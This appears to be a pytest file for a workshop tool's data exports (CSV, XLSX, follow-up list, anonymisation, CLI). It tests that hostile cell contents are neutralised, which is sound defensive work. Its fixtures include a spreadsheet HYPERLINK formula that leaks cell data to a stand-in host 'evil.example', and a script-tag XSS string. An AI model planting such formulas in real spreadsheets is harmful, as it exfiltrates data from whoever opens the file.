"""The data exports: tidy tables, CSV and XLSX files, the follow-up list and `coprod export`.

A workshop is built in code with the shapes the activity builders really store; the files
are read back with pandas and openpyxl and compared with what was entered.
"""

from __future__ import annotations

import io
import json
import subprocess
import sys
import zipfile
from types import SimpleNamespace

import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner

from coprod.cli import cli
from coprod.content import CardSortTask, ListTask, ScaleTask
from coprod.exports import (
    ANSWER_COLUMNS,
    FOLLOWUP_COLUMNS,
    HISTORY_COLUMNS,
    answers_frame,
    csv_files,
    csv_zip,
    followup_csv,
    followup_frame,
    history_frame,
    participant_frame,
    xlsx_bytes,
)
from coprod.exports.cells import XLSX_CELL_LIMIT, unprotect
from coprod.exports.flatten import flatten
from coprod.moderation import set_hidden
from coprod.store import Store

NAMES = ["Alice Åström", "Bob", "Chidi", "Dana", "Zed"]
EMAILS = ["alice@example.org", "chidi@example.org", "dana@example.org", "zed@example.org", "typed@example.net"]
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
HOSTILE = "<script>alert('x')</script><b>bold</b> \u202egnirts desrever\u202c 🧡👩🏽‍🦱 «ça va» עברית"
LONG = "x" * 99_990 + "the end."


def _task(content, activity_id: str, kind):
    return next(t for p in content.activity(activity_id).parts for t in p.tasks if isinstance(t, kind))


def _note(note_id: str, question: str, text: str, *, posted: bool = False, by: str = "", **extra) -> dict:
    return {"id": note_id, "question": question, "text": text, "posted": posted, "by": by, **extra}


def build(store: Store, content, name: str = "Leeds, März") -> SimpleNamespace:
    """Five people in two groups, answers in many activities, a hidden post, and contacts."""
    workshop, _ = store.create_workshop(name)
    people = [store.join(workshop, n)[0] for n in NAMES]
    one, two = store.create_group(workshop, "Group 1"), store.create_group(workshop, "Group 2")
    alice, bob, chidi, dana, zed = [store.assign_group(p, g.id) for p, g in zip(people, [one, one, two, two, two],
                                                                                strict=True)]
    ids = {}
    # Activity 1: a note written, then edited (two versions, one current), and posted.
    store.save(alice, "what-do-you-know", "know-questions", "n1", _note("n1", "already-know", "Local groups"))
    ids["posted"] = store.save(alice, "what-do-you-know", "know-questions", "n1",
                               _note("n1", "already-know", "Local groups and carers", posted=True))
    # ... and one removed: in the history, not among the current answers.
    store.save(bob, "what-do-you-know", "know-questions", "n2", _note("n2", "want-to-know", "Gone soon"))
    store.save(bob, "what-do-you-know", "know-questions", "n2", _note("n2", "want-to-know", "Gone soon", removed=True))
    # Activity 2: sorted cards, the group's definition (edited by two people), a rating.
    cards = _task(content, "defining-co-production", CardSortTask)
    store.save(alice, "defining-co-production", cards.id, cards.cards[0].id, {"choice": 2, "pile": cards.piles[2]})
    store.save(chidi, "defining-co-production", cards.id, cards.cards[0].id, {"choice": 0, "pile": cards.piles[0]})
    store.save_unless_changed(alice, "defining-co-production", "our-definition", "text", {"text": "Working together"},
                              base_id=None, scope="group")
    store.save_unless_changed(bob, "defining-co-production", "our-definition", "text",
                              {"text": "Working together as equals"}, base_id=None, scope="group")
    rating = _task(content, "defining-co-production", ScaleTask)
    store.save(dana, "defining-co-production", rating.id, rating.statements[0].id,
               {"choice": 1, "label": rating.scale[1]})
    # Activity 3: a value in Part One, and the group placing it in its tree (the item holds Alice's id).
    store.save(alice, "values", "individual-values", "v1", _note("v1", "happy", "Fairness"))
    store.save(bob, "values", "values-tree", "trunk/t1", {"values": {"text": "Respect"}}, scope="group")
    store.save(bob, "values", "values-tree", f"place/{alice.id}-v1", {"trunk": "t1"}, scope="group")
    # Activity 4a: Bob adds to Alice's answers; Alice removes it, and the removal carries "by".
    store.save_for(bob, alice, "assets", "what-do-i-bring", "n3", _note("n3", "good-at", "Alice listens well"))
    store.save(alice, "assets", "what-do-i-bring", "n3",
               _note("n3", "good-at", "Alice listens well", by="Bob", removed=True))
    store.save_for(bob, alice, "assets", "what-do-i-bring", "n4", _note("n4", "skills", "Baking"))
    # Activity 6: a stakeholder with its follow-up fields; Zed writes one too, then is removed.
    store.save(chidi, "identifying-stakeholders", "stakeholders", "entries/e1",
               {"values": {"text": "Carers", "why-involved": "Dana and alice suggested it, mail chidi@example.org",
                           "what-they-bring": "Time"}}, scope="group")
    store.save(zed, "identifying-stakeholders", "stakeholders", "entries/e2", {"values": {"text": "Zed's pals"}},
               scope="group")
    # Activity 9: the room's list (workshop scope) and a group's two picks.
    problems = _task(content, "warning-signs", ListTask)
    store.save(chidi, "warning-signs", problems.id, "added/x1", {"values": {"text": "No budget"}}, scope="workshop")
    store.save(dana, "warning-signs", problems.id, "picked", {"ids": [problems.examples[0].id, "added/x1"]},
               scope="group")
    # Activity 11: a rating.
    evaluation = _task(content, "evaluating", ScaleTask)
    store.save(chidi, "evaluating", evaluation.id, evaluation.statements[0].id,
               {"choice": 4, "label": evaluation.scale[4]})
    # Activity 12: commitments.
    store.save(alice, "planning", "commitment", "text", {"text": "I will invite carers"})
    store.save(dana, "planning", "commitment", "text", {"text": "Start a group"})
    # The app: My notes (kept) and bookkeeping (left out).
    store.save(dana, "app", "my-notes", "text", {"text": FORMULA})
    store.save(dana, "app", "scenario", "text", {"text": HOSTILE}, scope="group")
    store.save(chidi, "app", "my-notes", "text", {"text": LONG})
    store.save(alice, "app", "position", "current", {"item": "values"})
    store.save(alice, "app", "comfort", "settings", {"size": "large"})
    store.save(bob, "reflecting", "reflection", "r1/now-know", {"text": "- a dash\n+ a plus\n@ at\ttab"})
    # The facilitator hides Alice's posted note.
    set_hidden(store, workshop, next(a for a in store.history(workshop.id) if a.id == ids["posted"]), True)
    # Contacts: Alice and Dana consent; Chidi consents then withdraws; Zed consents, then is removed.
    store.set_contact(alice, EMAILS[0])
    store.set_contact(chidi, EMAILS[1])
    store.set_contact(chidi, None)
    store.set_contact(dana, EMAILS[2])
    store.set_contact(zed, EMAILS[3])
    store.remove_participant(zed)
    return SimpleNamespace(workshop=workshop, alice=alice, bob=bob, chidi=chidi, dana=dana, zed=zed, one=one, two=two,
                           cards=cards, rating=rating, problems=problems)


@pytest.fixture
def room(fresh_store, content):
    return build(fresh_store, content)


def _rows(frame, **where):
    mask = pd.Series(True, index=frame.index)
    for column, value in where.items():
        mask &= frame[column] == value
    return frame[mask]


def _only(frame, **where):
    rows = _rows(frame, **where)
    assert len(rows) == 1, rows
    return rows.iloc[0]


# --- the tables ------------------------------------------------------------------------------


def test_current_answers_are_the_newest_version_of_each_key(fresh_store, content, room):
    frame = answers_frame(fresh_store, content, room.workshop)
    assert list(frame.columns) == ANSWER_COLUMNS
    assert _only(frame, task="know-questions", item="n1/text").value == "Local groups and carers"
    assert _only(frame, task="know-questions", item="n1/posted").value is True
    assert _rows(frame, item="n2/text").empty and _rows(frame, item="n3/text").empty  # removed
    assert _only(frame, task="our-definition").value == "Working together as equals"
    assert _only(frame, task="our-definition").participant == "Bob"
    assert not frame["task"].isin(["position", "comfort"]).any()  # the app's bookkeeping
    assert set(frame["time"].str[-1]) == {"Z"} and frame["time"].str.match(r"^\d{4}-\d\d-\d\dT\d\d:\d\d").all()
    # current answers in course order: activity numbers never go down, the app's texts last
    numbers = frame["activity_number"].tolist()
    known = [n for n in numbers if n is not pd.NA]
    assert known == sorted(known) and numbers[-1] is pd.NA


def test_history_has_every_stored_row_oldest_first(fresh_store, content, room):
    history = history_frame(fresh_store, content, room.workshop)
    assert list(history.columns) == HISTORY_COLUMNS
    stored = [a.id for a in fresh_store.history(room.workshop.id) if a.task not in ("position", "comfort")]
    assert list(dict.fromkeys(history["answer_id"])) == stored  # oldest first, none missing
    versions = _rows(history, item="n1/text")
    assert versions["value"].tolist() == ["Local groups", "Local groups and carers"]
    assert _only(history, item="n2/removed").value is True
    current = answers_frame(fresh_store, content, room.workshop)
    assert len(history) > len(current)


def test_groups_names_parts_and_owners(fresh_store, content, room):
    frame = answers_frame(fresh_store, content, room.workshop)
    own = _only(frame, item="n1/text")
    assert (own.workshop, own.group, own.participant, own.owner, own.scope) == (
        "Leeds, März", "Group 1", "Alice Åström", "Alice Åström", "participant")
    assert (own.activity_number, own.activity, own.part) == (1, "what-do-you-know", "main")
    tree = _only(frame, item="trunk/t1")
    assert (tree.activity_number, tree.part, tree.group, tree.participant, tree.owner) == (3, "b", "Group 1", "Bob",
                                                                                           None)
    added = _only(frame, item="n4/text")  # Bob added it to Alice's answers
    assert (added.participant, added.owner, added.group, added.part) == ("Bob", "Alice Åström", "Group 1", "a")
    room_list = _only(frame, item="added/x1")
    assert (room_list.scope, room_list.group, room_list.participant) == ("workshop", None, "Chidi")
    # Zed was removed from the workshop: what they wrote for their group stays, under their name.
    zeds = _only(frame, item="entries/e2")
    assert (zeds.participant, zeds.group, zeds.value) == ("Zed", "Group 2", "Zed's pals")
    notes = _only(frame, activity="app", task="my-notes", participant="Dana")
    assert notes.group == "Group 2" and notes.part is None and notes.activity_number is pd.NA


def test_values_become_plain_cells(fresh_store, content, room):
    frame = answers_frame(fresh_store, content, room.workshop)
    card = room.cards.cards[0].id
    alices = _rows(frame, task=room.cards.id, participant="Alice Åström")
    assert dict(zip(alices["item"], alices["value"], strict=True)) == {f"{card}/choice": 2,
                                                                       f"{card}/pile": room.cards.piles[2]}
    rating = _only(frame, task=room.rating.id, item=f"{room.rating.statements[0].id}/choice")
    assert rating.value == 1 and isinstance(rating.value, int)
    stakeholder = _rows(frame, task="stakeholders", participant="Chidi")
    assert stakeholder["item"].tolist() == ["entries/e1/text", "entries/e1/why-involved",
                                            "entries/e1/what-they-bring"]
    picked = _only(frame, item="picked/ids")
    assert json.loads(picked.value) == [room.problems.examples[0].id, "added/x1"] and picked.group == "Group 2"
    assert _only(frame, item=f"place/{room.alice.id}-v1/trunk").value == "t1"
    assert _only(frame, task="reflection")["item"] == "r1/now-know"


def test_flatten_rules():
    assert flatten("t", {"text": "hello"}) == [("t", "hello")]
    assert flatten("n", {"id": "n", "question": "q", "text": "t", "posted": False, "by": ""}) == [
        ("n/question", "q"), ("n/text", "t"), ("n/posted", False)]
    assert flatten("n", {"id": "n", "text": "t", "by": "Bob"}) == [("n/text", "t"), ("n/by", "Bob")]
    assert flatten("entries/e", {"values": {"text": "Rule"}}) == [("entries/e", "Rule")]
    assert flatten("e", {"values": {"removed": "a field"}, "removed": True}) == [("e/values/removed", "a field"),
                                                                               ("e/removed", True)]
    assert flatten("p", {"ids": ["a", "b"]}) == [("p/ids", '["a", "b"]')]
    assert flatten("x", {}) == [("x", None)] and flatten("x", 3.5) == [("x", 3.5)]


def test_hidden_posts_are_marked(fresh_store, content, room):
    frame = answers_frame(fresh_store, content, room.workshop)
    assert set(_rows(frame, hidden=True)["item"]) == {"n1/question", "n1/text", "n1/posted"}
    history = history_frame(fresh_store, content, room.workshop)
    # hiding a post hides every version of it
    assert _rows(history, hidden=True)["answer_id"].nunique() == 2


def test_participant_frame_is_one_persons_own_data(fresh_store, content, room):
    mine = participant_frame(fresh_store, content, room.alice)
    assert set(mine["participant"]) == {"Alice Åström", "Bob"}  # Bob's additions to her answers are hers too
    assert set(_rows(mine, participant="Bob")["owner"]) == {"Alice Åström"}
    assert "Working together" in mine["value"].tolist()  # group work she wrote
    assert "Working together as equals" not in mine["value"].tolist()  # Bob's version is his
    assert not mine["task"].isin(["position", "comfort"]).any()
    assert _rows(mine, participant="Dana").empty


# --- anonymised ----------------------------------------------------------------------------------


def _every_text(frames) -> list[str]:
    return [str(v) for frame in frames for column in frame.columns for v in [column, *frame[column].tolist()]]


def test_anonymised_tables_hold_no_name_or_email(fresh_store, content, room):
    current = answers_frame(fresh_store, content, room.workshop, anonymised=True)
    history = history_frame(fresh_store, content, room.workshop, anonymised=True)
    cells = _every_text([current, history])
    for secret in [*NAMES, "Åström", *EMAILS, "@example"]:
        assert not any(secret.lower() in cell.lower() for cell in cells), secret
    assert sorted(set(history["participant"])) == ["P01", "P02", "P03", "P04", "P05"]  # joining order, Zed too
    assert _only(current, item="n1/text").participant == "P01"
    assert _only(current, item="n4/text")[["participant", "owner"]].tolist() == ["P02", "P01"]
    assert _only(history, item="n3/by").value == "P02"  # "added by" in a stored value
    assert not _rows(current, item="place/P01-v1/trunk").empty  # a participant id inside an item
    said = _only(current, item="entries/e1/why-involved").value
    assert said == "P04 and P01 suggested it, mail [email]"
    assert _only(current, item="entries/e2").value == "P05's pals"
    # the answers themselves are unchanged otherwise
    assert _only(current, task="our-definition").value == "Working together as equals"


def test_anonymised_files_hold_no_name_or_email(fresh_store, content, room):
    data = [*csv_files(fresh_store, content, room.workshop, anonymised=True).values(),
            xlsx_bytes(fresh_store, content, room.workshop, anonymised=True)]
    book = openpyxl.load_workbook(io.BytesIO(data[-1]))
    cells = [data[0].decode("utf-8-sig"), data[1].decode("utf-8-sig")]
    cells += [str(c.value) for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
    for secret in [*NAMES, "Åström", *EMAILS]:
        assert not any(secret.lower() in cell.lower() for cell in cells), secret


# --- files ----------------------------------------------------------------------------------------


def test_xlsx_round_trip(fresh_store, content, room):
    data = xlsx_bytes(fresh_store, content, room.workshop)
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["answers", "history", "authorship"]
    sheet = book["answers"]
    assert [c.value for c in sheet[1]] == ANSWER_COLUMNS and all(c.font.bold for c in sheet[1])
    assert sheet.freeze_panes == "A2" and sheet.column_dimensions["A"].width > len("workshop")
    formula = next(c for row in sheet.iter_rows() for c in row if c.value == FORMULA)
    assert formula.data_type == "s" and formula.quotePrefix  # text, not a formula
    assert not any(c.data_type == "f" for s in book for row in s.iter_rows() for c in row)

    expected = answers_frame(fresh_store, content, room.workshop)
    read = pd.read_excel(io.BytesIO(data), sheet_name=None)
    assert len(read["answers"]) == len(expected)
    assert len(read["history"]) == len(history_frame(fresh_store, content, room.workshop))
    for got, want in zip(read["answers"]["value"], expected["value"], strict=True):
        if isinstance(want, str) and len(want) > XLSX_CELL_LIMIT:
            assert len(got) <= XLSX_CELL_LIMIT and got.startswith("x" * 1000) and "CSV export" in got
        elif want is None:
            assert pd.isna(got)
        else:
            assert got == want, (got, want)
    assert HOSTILE in read["answers"]["value"].tolist()
    assert read["answers"]["participant"].tolist() == expected["participant"].tolist()
    assert read["answers"]["group"].fillna("").tolist() == expected["group"].fillna("").tolist()


def test_csv_round_trip(fresh_store, content, room):
    files = csv_files(fresh_store, content, room.workshop)
    assert set(files) == {"answers.csv", "history.csv", "authorship.csv"}
    raw = files["answers.csv"]
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM that makes Excel read UTF-8
    text = raw.decode("utf-8-sig")
    assert '"\'=HYPERLINK(' in text and '"=HYPERLINK(' not in text  # formula start protected
    assert "\"'- a dash" in text

    expected = answers_frame(fresh_store, content, room.workshop)
    read = pd.read_csv(io.BytesIO(raw), encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert list(read.columns) == ANSWER_COLUMNS and len(read) == len(expected)
    for got, want in zip(read["value"], expected["value"], strict=True):
        assert unprotect(got) == ("" if want is None else str(want))
    assert LONG in read["value"].tolist() and HOSTILE in read["value"].tolist()  # every character kept
    assert read["participant"].tolist() == expected["participant"].tolist()
    # numbers are never prefixed: a rating reads back as a number
    numbers = pd.read_csv(io.BytesIO(raw), encoding="utf-8-sig")
    assert set(numbers["activity_number"].dropna()) <= set(range(1, 13))
    history = pd.read_csv(io.BytesIO(files["history.csv"]), encoding="utf-8-sig")
    assert history["answer_id"].is_monotonic_increasing


def test_csv_zip_holds_both_files(fresh_store, content, room):
    archive = zipfile.ZipFile(io.BytesIO(csv_zip(fresh_store, content, room.workshop, anonymised=True)))
    assert set(archive.namelist()) == {"answers.csv", "history.csv", "authorship.csv", "README.txt"}
    assert archive.read("answers.csv") == csv_files(fresh_store, content, room.workshop, anonymised=True)[
        "answers.csv"]


def test_followup_list_has_only_consent_in_force(fresh_store, content, room):
    frame = followup_frame(fresh_store, content, room.workshop)
    assert list(frame.columns) == FOLLOWUP_COLUMNS
    assert frame["name"].tolist() == ["Alice Åström", "Dana"]  # Chidi withdrew; Zed was removed
    assert frame["email"].tolist() == [EMAILS[0], EMAILS[2]]
    assert frame["commitment"].tolist() == ["I will invite carers", "Start a group"]
    assert frame["consented_at"].str.endswith("Z").all()
    read = pd.read_csv(io.BytesIO(followup_csv(fresh_store, content, room.workshop)), encoding="utf-8-sig")
    assert read["email"].tolist() == [EMAILS[0], EMAILS[2]]


def test_an_empty_workshop_exports_empty_tables(fresh_store, content):
    workshop, _ = fresh_store.create_workshop("Empty")
    assert answers_frame(fresh_store, content, workshop).empty
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(fresh_store, content, workshop)))
    assert [c.value for c in book["history"][1]] == HISTORY_COLUMNS and book["history"].max_row == 1
    assert followup_frame(fresh_store, content, workshop).empty


def test_importing_the_package_loads_neither_pandas_nor_openpyxl():
    code = "import sys, coprod.exports; print('pandas' in sys.modules, 'openpyxl' in sys.modules)"
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout
    assert out.split() == ["False", "False"]


# --- the command ------------------------------------------------------------------------------------


@pytest.fixture
def database(tmp_path, content):
    path = tmp_path / "workshop.sqlite3"
    store = Store(str(path))
    store.migrate()
    room = build(store, content)
    newest, _ = store.create_workshop("Newest")
    alone, _ = store.join(newest, "Only one")
    store.save(alone, "planning", "commitment", "text", {"text": "Newest commitment"})
    store.dispose()
    return SimpleNamespace(path=path, room=room, newest=newest)


def test_export_answers_csv_and_xlsx(database, tmp_path):
    runner = CliRunner()
    out = tmp_path / "csv"
    result = runner.invoke(cli, ["export", "answers", "--database", str(database.path), "--workshop",
                                 database.room.workshop.code, "--format", "csv", "--output", str(out)])
    assert result.exit_code == 0, result.output
    read = pd.read_csv(out / "answers.csv", encoding="utf-8-sig")
    assert "Alice Åström" in set(read["participant"]) and "rows of current answers" in result.output
    assert (out / "history.csv").exists() and (out / "authorship.csv").exists()

    book = tmp_path / "out" / "leeds.xlsx"
    result = runner.invoke(cli, ["export", "answers", "--database", str(database.path), "--workshop", "Leeds, März",
                                 "--anonymised", "--output", str(book)])
    assert result.exit_code == 0, result.output
    sheets = pd.read_excel(book, sheet_name=None)
    assert set(sheets) == {"answers", "history", "authorship"}
    assert "Alice Åström" not in set(sheets["answers"]["participant"])

    zipped = tmp_path / "answers.zip"
    result = runner.invoke(cli, ["export", "answers", "--database", str(database.path), "--format", "csv",
                                 "--output", str(zipped)])
    assert result.exit_code == 0, result.output
    with zipfile.ZipFile(zipped) as archive:
        newest = pd.read_csv(archive.open("answers.csv"), encoding="utf-8-sig")
    assert newest["value"].tolist() == ["Newest commitment"]  # no --workshop: the newest one


def test_export_default_file_name(database, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    result = CliRunner().invoke(cli, ["export", "answers", "--database", str(database.path), "--workshop",
                                      "Leeds, März"])
    assert result.exit_code == 0, result.output
    assert (tmp_path / "leeds-marz-answers.xlsx").is_file()


def test_export_followup(database, tmp_path):
    out = tmp_path / "followup.csv"
    result = CliRunner().invoke(cli, ["export", "followup", "--database", str(database.path), "--workshop",
                                      database.room.workshop.code, "--output", str(out)])
    assert result.exit_code == 0, result.output
    assert pd.read_csv(out, encoding="utf-8-sig")["email"].tolist() == [EMAILS[0], EMAILS[2]]
    assert "2 people to follow up" in result.output


@pytest.mark.parametrize("args, message", [
    (["--workshop", "Nowhere"], "No workshop is named 'Nowhere'"),
    (["--format", "pdf"], "'pdf' is not one of"),
])
def test_export_refuses_clearly(database, tmp_path, args, message):
    result = CliRunner().invoke(cli, ["export", "answers", "--database", str(database.path), "--output",
                                      str(tmp_path / "x.xlsx"), *args])
    assert result.exit_code in (1, 2) and message in result.output, result.output
    assert "Traceback" not in result.output and not (tmp_path / "x.xlsx").exists()


def test_export_without_a_database_or_workshop(tmp_path):
    missing = tmp_path / "missing.sqlite3"
    result = CliRunner().invoke(cli, ["export", "followup", "--database", str(missing)])
    assert result.exit_code == 1 and f"There is no database at {missing}" in result.output
    assert not missing.exists()  # looking did not create an empty database
    empty = tmp_path / "empty.sqlite3"
    Store(str(empty)).migrate()
    result = CliRunner().invoke(cli, ["export", "answers", "--database", str(empty)])
    assert result.exit_code == 1 and "no workshop yet" in result.output
    assert len(result.output.strip().splitlines()) == 1


def test_the_answers_export_says_who_wrote_which_part_of_a_group_text(fresh_store, content):
    """Group texts are written together and merged (coprod.merge): the export carries, beside the
    history, each piece of the current text with the person whose save first had it."""
    workshop, _ = fresh_store.create_workshop("Authors")
    group = fresh_store.create_group(workshop, "Group 1")
    ann, bo = (fresh_store.assign_group(fresh_store.join(workshop, name)[0], group.id) for name in ("Ann", "Bo"))
    fresh_store.save(ann, "defining-co-production", "our-definition", "text", {"text": "We meet on Tuesdays."},
                     scope="group")
    fresh_store.save(bo, "defining-co-production", "our-definition", "text",
                     {"text": "We meet on Tuesdays. Bring a friend."}, scope="group")
    read = pd.read_csv(io.BytesIO(csv_files(fresh_store, content, workshop)["authorship.csv"]), encoding="utf-8-sig")
    pieces = read[read["task"] == "our-definition"]
    assert " ".join("".join(pieces["text"]).split()) == "We meet on Tuesdays. Bring a friend."
    assert pieces.iloc[0]["participant"] == "Ann" and pieces.iloc[-1]["participant"] == "Bo"
